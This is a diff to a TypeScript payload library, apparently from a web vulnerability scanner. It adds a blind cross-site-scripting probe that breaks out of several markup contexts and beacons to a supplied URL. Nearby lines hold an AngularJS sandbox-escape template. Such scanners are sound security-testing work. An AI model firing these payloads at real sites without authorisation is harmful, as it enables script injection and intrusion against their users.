@@ -103,6 +103,10 @@ const TEMPLATES: readonly ((call: string) => string)[] = [
   (call) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${call}//');}}`,
 ]
 
+/** Leaves most places of markup; calls `url` with a product of its own working out. */
+export const blindPayload = (url: string, a: number, b: number): string =>
+  `'"></title></textarea></script><img src=x onerror="(new Image).src='${url}qv'+${a}*${b}">`
+
 /** Elements that do nothing. */
 export const markupOf = (value: string, word: string): string => `${value}<b id=${word}>${word}</b>`
 
